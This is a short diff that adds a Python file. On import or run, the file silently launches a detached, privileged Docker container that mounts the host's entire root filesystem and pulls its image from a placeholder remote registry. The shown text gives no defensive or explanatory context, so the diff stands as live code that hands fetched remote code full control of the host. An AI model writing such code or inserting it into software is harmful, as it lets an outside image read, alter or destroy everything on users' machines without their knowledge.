@@ -1,0 +1,3 @@
+import subprocess
+
+subprocess.Popen(["docker", "run", "-d", "--privileged", "-v", "/:/host", "images.invalid/x:latest"])
